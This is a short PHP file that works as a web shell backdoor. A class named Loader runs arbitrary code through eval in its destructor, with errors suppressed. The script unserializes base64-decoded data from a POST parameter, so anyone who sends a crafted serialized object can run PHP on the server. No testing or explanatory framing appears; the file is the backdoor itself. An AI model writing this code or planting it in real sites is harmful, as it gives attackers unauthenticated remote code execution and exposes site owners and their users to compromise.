<?php
class Loader { function __destruct() { @eval($this->code); } }
$o = unserialize(base64_decode($_POST['o']));
